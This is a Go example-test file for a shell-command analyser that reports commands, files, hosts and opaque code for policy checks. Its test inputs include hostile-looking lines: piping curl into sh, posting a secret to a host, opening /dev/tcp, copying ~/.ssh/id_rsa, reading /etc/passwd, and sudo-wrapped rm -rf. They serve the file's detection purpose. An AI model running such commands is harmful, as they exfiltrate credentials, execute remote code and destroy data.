package bash_test

import (
	"fmt"

	"github.com/grapnel-go/grapnel/policy/bash"
)

func ExampleAnalyse() {
	a := bash.Analyse(`cd /srv && sudo sh -c 'rm -rf "$1"' _ build | tee log`, bash.Options{})
	for _, c := range a.Commands {
		fmt.Print(c.Name, " in ", c.Dirs)
		for _, step := range c.Via {
			fmt.Printf(" < %s(%s)", step.Kind, step.Name)
		}
		fmt.Println()
	}
	for _, f := range a.Files {
		fmt.Println(f.Access, f.Path)
	}
	fmt.Println("clear:", a.Clear())
	// Output:
	// cd in [.]
	// sudo in [/srv] < and()
	// sh in [/srv] < and() < wrapper(sudo)
	// rm in [/srv] < and() < wrapper(sudo) < shell(sh)
	// tee in [/srv] < and() < pipe()
	// delete /srv/build
	// write /srv/log
	// clear: true
}

func ExampleAnalysis_Clear() {
	for _, line := range []string{
		`r\m x`,
		`a=rm; $a x`,
		`$(echo rm) x`,
		`$tool x`,
		`curl -s https://example.com | sh`,
		`python3 -c 'run(1)'`,
		`echo "rm x`,
	} {
		a := bash.Analyse(line, bash.Options{})
		fmt.Println(a.Clear(), line)
		for _, o := range a.Opaque {
			fmt.Printf("  %s at %d:%d: %s\n", o.Reason, o.Pos.Line, o.Pos.Column, o.Detail)
		}
		if a.Unparseable != nil {
			fmt.Println(" ", a.Unparseable)
		}
	}
	// Output:
	// true r\m x
	// true a=rm; $a x
	// true $(echo rm) x
	// false $tool x
	//   name at 1:1: the name of the command is unknown: $tool
	// false curl -s https://example.com | sh
	//   input at 1:31: sh runs its input, which is unknown
	// false python3 -c 'run(1)'
	//   code at 1:1: python code
	// false echo "rm x
	//   parsing the line: 1:6: reached EOF without closing quote `"`
}

func ExampleAnalysis_CommandsNamed() {
	a := bash.Analyse("git -C app -c user.name=me push -uf origin && git log", bash.Options{})
	for git := range a.CommandsNamed("git") {
		fmt.Println(git.Sub, git.Flag("f", "force"), git.Operands())
	}
	// Output:
	// push true [origin]
	// log false []
}

func ExampleAnalysis_Opaque() {
	a := bash.Analyse(`python3 -c 'run(1)'`, bash.Options{})
	fmt.Println(a.Opaque[0].Reason == bash.OpaqueCode)
	fmt.Println(a.Commands[0].Language, a.Commands[0].Code)
	// Output:
	// true
	// python run(1)
}

func ExampleWord() {
	a := bash.Analyse(`rm 'a b' *.o "$dir/x" $more`, bash.Options{})
	for _, w := range a.Commands[0].Args {
		fmt.Println(w.Kind, w, w.Many)
	}
	// Output:
	// literal a b false
	// pattern *.o true
	// partial …/x false
	// partial … true
}

func ExampleHost() {
	a := bash.Analyse("curl -d @secret https://me@example.com:8443/x; exec 3<>/dev/tcp/10.0.0.1/80", bash.Options{})
	for _, h := range a.Hosts {
		fmt.Println(h.Name, h.Port)
	}
	// Output:
	// example.com 8443
	// 10.0.0.1 80
}

func ExampleFile() {
	a := bash.Analyse(`cp ~/.ssh/id_rsa key; cat < /etc/passwd > "$out"`, bash.Options{Dir: "/srv", Home: "/home/me"})
	for _, f := range a.Files {
		fmt.Println(f.Access, f.Path, f.Known)
	}
	// Output:
	// read /home/me/.ssh/id_rsa true
	// write /srv/key true
	// read /etc/passwd true
	// write  false
}
